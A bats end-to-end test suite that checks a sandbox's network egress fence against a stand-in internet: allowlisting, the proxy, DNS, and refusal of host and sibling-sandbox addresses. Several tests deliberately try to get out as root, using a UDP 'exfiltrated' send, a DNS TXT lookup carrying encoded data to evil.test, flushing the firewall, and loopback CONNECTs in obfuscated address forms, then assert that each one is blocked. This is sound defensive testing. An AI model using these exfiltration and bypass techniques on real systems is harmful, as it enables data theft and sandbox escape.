#!/usr/bin/env bats
# A sandbox's network, from inside, against a stand-in internet (fake_internet_up: a network
# namespace of the file's own at $FI_OUTSIDE with web servers, a UDP sink and a DNS server for
# fake names). Allowed names work; as root inside, every other way out fails fast; policy
# changes count without a restart; ss-net gone means no network until ss starts it again.
# The backend is SS_E2E_BACKEND (docker when unset); CTest runs it on every backend. LXD, Docker
# and Podman fence a bridge of the sandbox's own with nftables (a transparent proxy and resolver
# besides the proxy); QEMU's restricted user network leaves nothing but the proxy and the
# resolver, over TCP, at 10.0.2.100, which QEMU relays to ss-net (no transparent interception).

load helpers

setup_file() {
  export SS_E2E_BACKEND=${SS_E2E_BACKEND:-docker}
  e2e_sandbox_file eg
  fake_internet_env
  [ -n "$(host_address)" ]
  # Names that lead home (the host's loopback, its link to the outside, an address of its own
  # interfaces, another sandbox), in every form an address can take, and one that leads out.
  fake_internet_up allowed.test evil.test config.test loop.test=::ffff:127.0.0.1 \
    "link.test=::ffff:$FI_NET.1" nat64.test=64:ff9b::7f00:1 "nat64link.test=64:ff9b::$FI_NET.1" \
    sixtofour.test=2002:7f00:1::1 compat.test=::127.0.0.1 "own.test=$(host_address)" \
    "own6.test=::ffff:$(host_address)" "sibling.test=$FI_NET.130" \
    "sibling6.test=64:ff9b::$FI_NET.130" "mapped.test=::ffff:$FI_OUTSIDE"
  sibling_up
  # A variable of the user's that ss's long-lived processes must not keep.
  export EGRESS_TEST_PRIVATE="private-$$"
  # A service of the host's on every address: the sandbox must not reach it.
  python3 "$SS_SOURCE_DIR/tests/e2e/outside.py" 0.0.0.0 /dev/null tcp:0 >"$FI_DIR/host_port" 3>&- &
  echo $! >>"$FI_DIR/pids"
  for _ in $(seq 50); do [ -s "$FI_DIR/host_port" ] && break; sleep 0.1; done
  ss vm start --sandbox "$SANDBOX" --backend "$SS_E2E_BACKEND" >&3 2>&1
  ss net allow allowed.test --sandbox "$SANDBOX" >/dev/null
}

teardown_file() {
  e2e_env
  fake_internet_env
  e2e_sandbox_remove
  fake_internet_down
  sibling_down
}

# host_address: an IPv4 address of the host's own interfaces (not the stand-in's, not a
# sandbox's): what a name or a CONNECT may try to reach the host's services at.
host_address() {
  ip -4 -o addr show scope global | awk '$2 !~ /^(ssn-|ssfi|docker|br-|lxdbr|ssbr)/ {print $4}' |
    cut -d/ -f1 | head -1
}

# sibling_up: what the host sees of another sandbox (a bridge of ss's kind, ssn-…, its address
# $FI_NET.129/25 from the stand-in's /24, and a container at $FI_NET.130 in a network namespace),
# and the marker: a service of the host's on every address and of the other sandbox, each
# writing down every connection it gets ($FI_DIR/marker.hits): what ss-net must never reach.
sibling_up() {
  local br="ssn-e2e$$" ns="ss-sib-$$" link="sssib$$" taken
  # Never over a network this machine has already (a run cut short leaves its bridge behind).
  taken=$(ip -4 -o route show to match "$FI_NET.130" | grep -v '^default ' || true)
  if [ -n "$taken" ]; then
    echo "sibling_up: $FI_NET.128/25 is in use on this machine ($taken); remove what holds it (a bridge left by an interrupted run: ip link del DEVICE)" >&2
    return 1
  fi
  echo "$br $ns" >"$FI_DIR/sibling"
  ip link add "$br" type bridge
  ip addr add "$FI_NET.129/25" dev "$br"
  ip link set "$br" up
  ip netns add "$ns"
  ip link add "${link:0:15}" type veth peer name eth0 netns "$ns"
  ip link set "${link:0:15}" master "$br" up
  ip -n "$ns" addr add "$FI_NET.130/25" dev eth0
  ip -n "$ns" link set eth0 up
  ip -n "$ns" link set lo up
  local marker='
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("::", int(sys.argv[2])))
s.listen(16)
print(s.getsockname()[1], flush=True)
while True:
    c, peer = s.accept()
    open(sys.argv[1], "a").write("hit %s\n" % peer[0])
    c.close()'
  python3 -c "$marker" "$FI_DIR/marker.hits" 0 >"$FI_DIR/marker.port" 3>&- &
  echo $! >>"$FI_DIR/pids"
  for _ in $(seq 50); do [ -s "$FI_DIR/marker.port" ] && break; sleep 0.1; done
  ip netns exec "$ns" python3 -c "$marker" "$FI_DIR/marker.hits" "$(cat "$FI_DIR/marker.port")" \
    >"$FI_DIR/sibling.port" 3>&- &
  echo $! >>"$FI_DIR/pids"
  for _ in $(seq 50); do [ -s "$FI_DIR/sibling.port" ] && break; sleep 0.1; done
  # Both work: a connection of the host's own to each is written down (the new bridge may take a
  # moment to answer ARP on a busy machine).
  python3 -c 'import socket, sys, time
for a in sys.argv[2:]:
    for attempt in range(40):
        try:
            socket.create_connection((a, int(sys.argv[1])), timeout=5).close()
            break
        except OSError:
            if attempt == 39: raise
            time.sleep(0.25)' \
    "$(cat "$FI_DIR/marker.port")" 127.0.0.1 "$FI_NET.130"
  for _ in $(seq 50); do [ "$(wc -l <"$FI_DIR/marker.hits")" -ge 2 ] && break; sleep 0.1; done
}
sibling_down() {
  local br ns
  read -r br ns <"$FI_DIR/sibling" 2>/dev/null || return 0
  ip netns del "$ns" 2>/dev/null || true
  ip link del "$br" 2>/dev/null || true
}

setup() {
  e2e_sandbox_env
  fake_internet_env
  W=$BATS_FILE_TMPDIR
}

in_sandbox() { sandbox_ssh "$SANDBOX" "$@"; }
as_root() { sandbox_ssh "$SANDBOX" sudo -n "$@"; }
on_qemu() { [ "$SS_E2E_BACKEND" = qemu ]; }
# The proxy the sandbox's HTTP(S)_PROXY names.
proxy_url() {
  if on_qemu; then
    echo http://10.0.2.100:3128
  else
    echo "http://$(in_sandbox "ip route show default | awk '{print \$3}'"):3128"
  fi
}
serve_record() { echo "$SS_HOME/.ss/sandboxes/$SANDBOX/net/serve.json"; }

# dns_query [--tcp] SERVER NAME TYPE: one lookup as root, straight to SERVER (whatever
# resolv.conf says): "rcode N", or "no answer" when nothing came back within 5 s or the query
# could not leave.
dns_query() {
  local tcp=0
  if [ "$1" = --tcp ]; then
    tcp=1
    shift
  fi
  as_root python3 - "$tcp" "$@" <<'EOF'
import socket, struct, sys
tcp, server, name, qtype = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
for label in name.encode().split(b"."):
    q += bytes([len(label)]) + label
q += b"\0" + struct.pack("!HH", qtype, 1)
try:
    if tcp:
        s = socket.create_connection((server, 53), timeout=5)
        s.sendall(struct.pack("!H", len(q)) + q)
        answer = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, (server, 53))
        answer = s.recv(512)
    print("rcode", answer[3] & 15 if len(answer) > 3 else "none")
except OSError:
    print("no answer")
EOF
}

@test "egress: allowed names work, transparently and through the proxy; others are refused with the reason" {
  proxy=$(proxy_url)
  run in_sandbox getent hosts allowed.test
  assert_output --regexp "^${FI_OUTSIDE//./\\.} +allowed\\.test\$"
  run in_sandbox getent hosts evil.test
  assert_failure
  run in_sandbox curl -sS -m 10 --proxy "$proxy" http://allowed.test/
  assert_output "outside says hi"
  # (curl takes the variable in lower case only.)
  run in_sandbox env http_proxy="$proxy" curl -sS -m 10 http://allowed.test/
  assert_output "outside says hi"
  if on_qemu; then
    # No transparent interception: without the proxy nothing goes, and at once (7, not 28: a
    # refusal, not a timeout).
    run in_sandbox env -u http_proxy curl -sS -m 10 http://allowed.test/
    assert_failure 7
  else
    run in_sandbox env -u http_proxy curl -sS -m 10 http://allowed.test/
    assert_output "outside says hi"
    run in_sandbox env -u http_proxy curl -s -m 10 --resolve "evil.test:80:$FI_OUTSIDE" http://evil.test/
    assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox '$SANDBOX'; to allow it: ss net allow evil.test"
  fi
  # Through the proxy every login is pointed at: refused with the reason.
  run in_sandbox curl -sS -m 10 http://evil.test/
  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox '$SANDBOX'; to allow it: ss net allow evil.test"
  run in_sandbox env -u http_proxy curl -sS -m 10 http://evil.test/
  assert_failure  # evil.test does not resolve
  run in_sandbox curl -s -m 10 --proxy "$proxy" http://evil.test/
  assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox '$SANDBOX'; to allow it: ss net allow evil.test"
  run in_sandbox curl -sS -m 10 --proxy "$proxy" https://evil.test/
  assert_failure
  assert_output --partial "403"
  run in_sandbox curl -s -m 10 "$proxy/denials"
  assert_output --partial "evil.test:80"
  run ss net log --json --sandbox "$SANDBOX"
  echo "$output" | jq -e -s 'map(select(.verdict == "allow" and .destination == "allowed.test")) | length >= 1'
  run ss status --sandbox "$SANDBOX" --json
  if on_qemu; then
    echo "$output" | jq -e '.network.fenced == true and .network.fence == "backend"'
    run pgrep -af -- "-name $SANDBOX "
    assert_output --partial "restrict=on,ipv6=off,"
  else
    echo "$output" | jq -e '.network.fenced == true and .network.fence == "nftables"'
  fi
}

@test "egress: a sandbox's connections are bounded by default: its share of the host's conntrack, and of ss-net" {
  local pid
  pid=$(jq -r .pid "$(serve_record)")
  # ss-net serves half of network.connections (8192 by default) at once.
  tr '\0' ' ' <"/proc/$pid/cmdline" | grep -q -- '--connections 4096 '
  on_qemu && return 0  # QEMU's own user network is the fence: no nftables rules
  # The fence's share: the same 8192, or a quarter of the host's table when that is less.
  local max share
  max=$(cat /proc/sys/net/netfilter/nf_conntrack_max)
  share=$((max / 4 < 8192 ? max / 4 : 8192))
  run nft list chain inet ss "sandbox-$SANDBOX-in"
  assert_output --partial "ct state new ct count over $share counter packets"
}

@test "egress: every login is pointed at the proxy; clients that honour it go through it" {
  proxy=$(proxy_url)
  run in_sandbox printenv HTTPS_PROXY
  assert_output "$proxy"
  run in_sandbox printenv http_proxy NODE_USE_ENV_PROXY
  assert_output "$(printf '%s\n1' "$proxy")"
  # curl takes the proxy from the environment: the request reaches ss-net as a proxy request
  # (not intercepted), and is logged as such.
  run in_sandbox curl -sS -m 10 http://allowed.test/
  assert_output "outside says hi"
  # An https URL goes as a CONNECT (the server there speaks plain HTTP: the handshake fails,
  # after the proxy let it through).
  run in_sandbox curl -sS -m 10 https://allowed.test:8080/
  run ss net log --json --sandbox "$SANDBOX"
  echo "$output" | jq -e -s 'map(select(.kind == "http" and (.transparent // false) == false and .destination == "allowed.test" and .verdict == "allow")) | length >= 1'
  echo "$output" | jq -e -s 'map(select(.kind == "connect" and .destination == "allowed.test" and .port == 8080)) | length >= 1'
}

@test "egress: config.yaml's network counts from the next session, on top of which ss net's changes stay" {
  run in_sandbox curl -s -m 10 http://config.test/
  assert_output --partial "is not in the allowlist"
  ss config set "sandboxes.$SANDBOX.network.allow" config.test >/dev/null
  run ss exec e2e-scratch -- true
  run in_sandbox curl -sS -m 10 http://config.test/
  assert_output "outside says hi"
  run ss net ls --sandbox "$SANDBOX"
  assert_line "  allow allowed.test"
  assert_line "  allow config.test"
  ss config set "sandboxes.$SANDBOX.network.presets" "" >/dev/null
  ss exec e2e-scratch -- true
  run ss net ls --sandbox "$SANDBOX" --json
  echo "$output" | jq -e '.allow == ["config.test", "allowed.test"]'
  ss config set "sandboxes.$SANDBOX.network.presets" "agent, packages, github" >/dev/null
  ss config set "sandboxes.$SANDBOX.network.allow" "" >/dev/null
}

@test "egress: ss-net and the shared connection keep none of the user's other variables" {
  pid=$(jq -r .pid "$SS_HOME/.ss/sandboxes/$SANDBOX/net/serve.json")
  run tr '\0' '\n' <"/proc/$pid/environ"
  assert_line "SS_HOME=$SS_HOME"
  refute_output --partial EGRESS_TEST_PRIVATE
  # A session passes the secret in; the shared connection it leaves behind does not keep it.
  pkill -f "ss-attach --share-master $SANDBOX\$" || true
  ss config set "sandboxes.$SANDBOX.secrets" EGRESS_TEST_PRIVATE >/dev/null
  run env EGRESS_TEST_PRIVATE=private-value ss exec e2e-scratch -- printenv EGRESS_TEST_PRIVATE
  assert_output private-value
  for _ in $(seq 50); do master=$(pgrep -f "ss-attach --share-master $SANDBOX\$") && break; sleep 0.1; done
  run tr '\0' '\n' <"/proc/$master/environ"
  assert_line "SS_HOME=$SS_HOME"
  refute_output --partial EGRESS_TEST_PRIVATE
  run env EGRESS_TEST_PRIVATE=private-again ss exec e2e-scratch -- printenv EGRESS_TEST_PRIVATE
  assert_output private-again
  ss config set "sandboxes.$SANDBOX.secrets" "" >/dev/null
}

@test "egress: as root inside, nothing else gets out, and it fails fast" {
  local start=$SECONDS
  if on_qemu; then
    # Root gives itself the route QEMU's DHCP left out: packets now reach QEMU's user network,
    # which must refuse them itself.
    as_root ip route replace default via 10.0.2.2
  fi
  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
  assert_failure 7
  # A TXT lookup carrying data, sent straight to an outside resolver: answered NXDOMAIN by
  # ss-net's resolver (Docker), or dropped (QEMU carries no UDP); never seen outside.
  run dns_query "$FI_OUTSIDE" c2VjcmV0.evil.test 16
  if on_qemu; then assert_output "no answer"; else assert_output "rcode 3"; fi
  # ss-net's own resolver: the same answer for a name that is not allowed, over UDP and TCP.
  if on_qemu; then
    run dns_query --tcp 10.0.2.100 c2VjcmV0.evil.test 16
    assert_output "rcode 3"
    run dns_query --tcp 10.0.2.100 allowed.test 1
    assert_output "rcode 0"
    # No UDP to it, nor to QEMU's own resolver, over UDP or TCP; nor TCP to the host or the
    # proxy address on other ports.
    run dns_query 10.0.2.100 allowed.test 1
    assert_output "no answer"
    run dns_query 10.0.2.3 allowed.test 1
    assert_output "no answer"
    run dns_query --tcp 10.0.2.3 allowed.test 1
    assert_output "no answer"
    run as_root curl -sS -m 10 http://10.0.2.2:22/
    assert_failure 7
    run as_root curl -sS -m 10 http://10.0.2.100:8080/
    assert_failure 7
    # The proxy refuses addresses and the host's loopback unless a rule names them.
    run as_root curl -s -m 10 --proxy http://10.0.2.100:3128 "http://$FI_OUTSIDE:8080/"
    assert_output --partial "is not in the allowlist"
    run as_root curl -s -m 10 --proxy http://10.0.2.100:3128 http://127.0.0.1:22/
    assert_output --partial "ss-net:"
    # No IPv6 at all.
    run as_root curl -sS -m 10 -g "http://[64:ff9b::c633:6402]:8080/"
    assert_failure
  fi
  run as_root ping -c 1 -W 2 "$FI_OUTSIDE"
  assert_failure
  as_root python3 - "$FI_OUTSIDE" <<'EOF'
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    try:
        u.sendto(b"exfiltrated", (sys.argv[1], 9999))
    except OSError:
        pass
EOF
  # Root drops the sandbox's own firewall and changes its routes: no difference. (One word for
  # the remote shell, which would run the rest of the line as the user.)
  as_root "sh -c 'iptables -P OUTPUT ACCEPT; iptables -F; ip route replace $FI_NET.0/24 dev eth0'" || true
  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
  assert_failure
  # The route off the gateway would keep the next tests' connections from reaching the fence.
  as_root ip route del "$FI_NET.0/24" dev eth0 2>/dev/null || true
  if on_qemu; then
    # Root points resolv.conf at QEMU's own resolver: that only loses DNS.
    as_root "sh -c 'echo nameserver 10.0.2.3 >/etc/resolv.conf'"
    run in_sandbox getent hosts allowed.test
    assert_failure
    as_root "sh -c 'printf \"nameserver 10.0.2.100\\noptions use-vc\\n\" >/etc/resolv.conf'"
    run in_sandbox getent hosts allowed.test
    assert_success
    as_root ip route del default via 10.0.2.2
  else
    # (Under QEMU without hardware acceleration, each of the SSH round trips above costs seconds:
    # there, each refusal's own exit status says that it came at once.)
    [ $((SECONDS - start)) -lt 60 ]
  fi
  # Every way around the fence at once, counted.
  if on_qemu; then
    run as_root python3 - "$FI_OUTSIDE" 10.0.2.2 10.0.2.100:3128 "$(cat "$FI_DIR/host_port")" \
      <"$SS_SOURCE_DIR/tests/e2e/bypass.py"
  else
    gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
    run as_root python3 - "$FI_OUTSIDE" "$gateway" "$gateway:3128" "$(cat "$FI_DIR/host_port")" \
      <"$SS_SOURCE_DIR/tests/e2e/bypass.py"
  fi
  echo "# bypass attempts on $SS_E2E_BACKEND: ${lines[-1]}" >&3
  refute_line --partial "LEAKED"
  assert_line "tried 19 blocked 19"
  sleep 1
  assert_file_not_exists "$FI_DIR/udp.got"
  run grep -c evil "$FI_DIR/dns.queries"
  assert_output 0
  # And the refusals are in the log, with their reason.
  run ss net log --json --sandbox "$SANDBOX"
  echo "$output" | jq -e -s 'map(select(.verdict != "allow" and .destination == "evil.test")) | length >= 2'
}

# raw_connect TARGET: a CONNECT as written (no client rewrites it) from inside, as root, to the
# proxy: the last status or ss-net line of the answer.
raw_connect() {
  local proxy
  proxy=$(proxy_url)
  proxy=${proxy#http://}
  as_root python3 - "${proxy%:*}" "${proxy##*:}" "$1" <<'EOF'
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: x\r\n\r\n" % sys.argv[3]).encode())
data = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    data += chunk
lines = data.decode(errors="replace").splitlines()
print([l for l in lines if l.startswith("ss-net:") or l.startswith("HTTP/")][-1])
EOF
}

@test "egress: names and addresses that lead home are refused after every translation, in every mode" {
  proxy=$(proxy_url)
  mark=$(cat "$FI_DIR/marker.port")
  hits=$(wc -l <"$FI_DIR/marker.hits")
  [ "$hits" -eq 2 ]
  read -r bridge _ <"$FI_DIR/sibling"
  local home=(loop link nat64 nat64link sixtofour compat own own6)
  ss net allow "${home[@]/%/.test}" sibling.test sibling6.test mapped.test --sandbox "$SANDBOX" >/dev/null
  # An IPv4-mapped answer is the IPv4 address it maps: this one is the outside.
  run in_sandbox curl -sS -m 10 --proxy "$proxy" http://mapped.test/
  assert_output "outside says hi"
  # Rules that name the host's addresses open nothing either.
  local rules=(127.0.0.1 "[::1]" "[64:ff9b::7f00:1]" 0.0.0.0 "$FI_NET.1" "$(host_address)" "$FI_NET.128/25")
  if ! on_qemu; then
    gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
    rules+=("$gateway")
  fi
  # ss net allow refuses each (nothing could pass it); written into the sandbox's changes by
  # hand, as an older ss may have, they still open nothing.
  local rule changes="$SS_HOME/.ss/sandboxes/$SANDBOX/net/changes.json"
  for rule in "${rules[@]}"; do
    run --separate-stderr ss net allow "$rule" --sandbox "$SANDBOX"
    assert_equal "$status" 65
    assert_regex "${stderr_lines[0]}" "^ss-net: error: '.*' is (the host's own address|a sandbox network \(.*\)): no rule opens it\$"
  done
  jq --args '. + [$ARGS.positional[] | {allow: .}]' "${rules[@]}" <"$changes" >"$BATS_TEST_TMPDIR/changes.json"
  cat "$BATS_TEST_TMPDIR/changes.json" >"$changes"
  ss net allow mapped.test --sandbox "$SANDBOX" >/dev/null   # the policy written again
  run ss net ls --sandbox "$SANDBOX"
  assert_line "  allow 127.0.0.1"
  for mode in allowlist open; do
    ss net mode "$mode" --sandbox "$SANDBOX" >/dev/null
    for name in "${home[@]}"; do
      run in_sandbox curl -s -m 10 --proxy "$proxy" "http://$name.test:$mark/"
      assert_output --regexp "^ss-net: $name\\.test:$mark leads to .*, an address of the host itself, which no sandbox may reach, whatever its rules or mode\$"
    done
    for name in sibling sibling6; do
      run in_sandbox curl -s -m 10 --proxy "$proxy" "http://$name.test:$mark/"
      assert_output --regexp "^ss-net: $name\\.test:$mark leads to .*, on ${FI_NET//./\\.}\\.128/25 on $bridge, a network of the host's sandboxes and containers"
    done
    # Named directly: the host's addresses, ss-net's own port, the other sandbox and its bridge.
    local targets=("$(host_address):$mark" "$FI_NET.1:$mark" "127.0.0.1:$mark" "[::1]:$mark"
      "[::ffff:127.0.0.1]:$mark" "[64:ff9b::7f00:1]:$mark" "0.0.0.0:$mark" "$FI_NET.129:$mark")
    if ! on_qemu; then
      targets+=("$gateway:$mark" "$gateway:$(jq -r '.ready.proxy[0]' "$(serve_record)" | sed 's/.*://')")
    fi
    for target in "${targets[@]}"; do
      run raw_connect "$target"
      assert_output --regexp "^ss-net: .*an address of the host itself"
    done
    run raw_connect "$FI_NET.130:$mark"
    assert_output --partial "a network of the host's sandboxes and containers"
    for target in 2130706433 0x7f.1 0177.0.0.1 127.1; do
      run raw_connect "$target:$mark"
      assert_output "ss-net: '$target:$mark' is not a valid host name"
    done
  done
  ss net mode allowlist --sandbox "$SANDBOX" >/dev/null
  # Nothing reached the host's service or the other sandbox's.
  sleep 0.5
  [ "$(wc -l <"$FI_DIR/marker.hits")" -eq "$hits" ]
  run ss net log --json --sandbox "$SANDBOX"
  echo "$output" | jq -e -s 'map(select(.verdict == "deny" and .rule == "host address")) | length >= 30'
  echo "$output" | jq -e -s 'map(select(.verdict == "deny" and .rule == "sandbox network")) | length >= 6'
}

@test "egress: ss net allow counts at once; with ss-net gone nothing passes until ss starts it again" {
  proxy=$(proxy_url)
  ss net allow evil.test --sandbox "$SANDBOX" >/dev/null
  run in_sandbox getent hosts evil.test
  assert_success
  run in_sandbox curl -sS -m 10 --proxy "$proxy" http://evil.test/
  assert_output "outside says hi"
  if ! on_qemu; then
    run in_sandbox curl -sS -m 10 http://evil.test/
    assert_output "outside says hi"
  fi
  ss net deny evil.test --sandbox "$SANDBOX" >/dev/null
  run in_sandbox curl -s -m 10 --proxy "$proxy" http://evil.test/
  assert_output --partial "denied by the rule 'evil.test'"
  run in_sandbox getent hosts evil.test
  assert_failure
  run ss status --sandbox "$SANDBOX"
  assert_line --regexp "^Network:   allowlist, [0-9]+ allowed, 1 denied \(ss net ls\)$"
  pid=$(jq -r .pid "$(serve_record)")
  old_port=$(jq -r '.ready.proxy[0]' "$(serve_record)" | sed 's/.*://')
  kill "$pid"
  sleep 0.5
  run ss status --sandbox "$SANDBOX" --json
  echo "$output" | jq -e '.network.fenced == true and .network.proxy_pid == null and .network.mode == "allowlist"'
  run ss status --sandbox "$SANDBOX"
  assert_line --partial "ss-net is not running, so nothing gets out until the next command starts it"
  run in_sandbox curl -sS -m 10 --resolve "allowed.test:80:$FI_OUTSIDE" http://allowed.test/
  assert_failure
  run in_sandbox curl -sS -m 10 --proxy "$proxy" http://allowed.test/
  assert_failure
  if on_qemu; then
    # At once: the relay closes the connection (not a timeout, 28).
    [ "$status" -ne 28 ]
    run in_sandbox timeout 8 getent hosts allowed.test
    assert_failure 2
    # ss-net's old port is taken meanwhile: it comes back on another, and the relays follow.
    # (SO_REUSEADDR: the old port's closed connections linger in TIME_WAIT.)
    python3 -c 'import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen()
print(flush=True)
time.sleep(600)' "$old_port" >"$W/holder" </dev/null 3>&- &
    holder=$!
    echo "$holder" >>"$W/pids"
    for _ in $(seq 50); do [ -s "$W/holder" ] && break; sleep 0.1; done
    [ -s "$W/holder" ]
  fi
  # The next session starts it again.
  ss exec e2e-scratch -- true
  if on_qemu; then
    new_port=$(jq -r '.ready.proxy[0]' "$(serve_record)" | sed 's/.*://')
    [ "$new_port" != "$old_port" ]
    run in_sandbox getent hosts allowed.test
    assert_success
    kill "$holder"
  fi
  run in_sandbox curl -sS -m 10 --proxy "$proxy" http://allowed.test/
  assert_output "outside says hi"
  if ! on_qemu; then
    run in_sandbox curl -sS -m 10 http://allowed.test/
    assert_output "outside says hi"
  fi
}

@test "egress: a stopped sandbox whose fence was lost (a host reboot) is fenced again before it boots" {
  ss vm stop --sandbox "$SANDBOX" >/dev/null
  run ss status --sandbox "$SANDBOX" --json
  echo "$output" | jq -e '.network.fenced == true and .network.proxy_pid == null'
  if on_qemu; then
    # QEMU's own fence goes and comes with the machine: nothing of it in nftables.
    run "$SS_BUILD_DIR/libexec/ss/ss-net" fence check --sandbox "$SANDBOX"
    assert_failure 1
    ss vm start --sandbox "$SANDBOX" >/dev/null 2>&1
    run pgrep -af -- "-name $SANDBOX "
    assert_output --partial "restrict=on,ipv6=off,"
  else
    "$SS_BUILD_DIR/libexec/ss/ss-net" fence remove --sandbox "$SANDBOX"
    run "$SS_BUILD_DIR/libexec/ss/ss-net" fence check --sandbox "$SANDBOX"
    assert_failure 1
    ss vm start --sandbox "$SANDBOX" >/dev/null 2>&1
    "$SS_BUILD_DIR/libexec/ss/ss-net" fence check --sandbox "$SANDBOX"
  fi
  if on_qemu; then
    run in_sandbox curl -sS -m 10 --proxy "$(proxy_url)" http://allowed.test/
  else
    run in_sandbox curl -sS -m 10 http://allowed.test/
  fi
  assert_output "outside says hi"
  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
  assert_failure 7
}

@test "egress: a reset keeps the policy, and the old ss-net does not outlive the old machine" {
  old=$(jq -r .pid "$(serve_record)")
  ss vm reset --sandbox "$SANDBOX" --yes >/dev/null 2>&1
  run process_alive "$old"
  assert_failure
  run ss net ls --sandbox "$SANDBOX"
  assert_line "  allow allowed.test"
  if on_qemu; then
    run in_sandbox getent hosts allowed.test
    assert_success
    run in_sandbox curl -sS -m 10 --proxy "$(proxy_url)" http://allowed.test/
  else
    run in_sandbox curl -sS -m 10 http://allowed.test/
  fi
  assert_output "outside says hi"
  [ "$(pgrep -fc "ss-net serve --sandbox $SANDBOX ")" -eq 1 ]
}

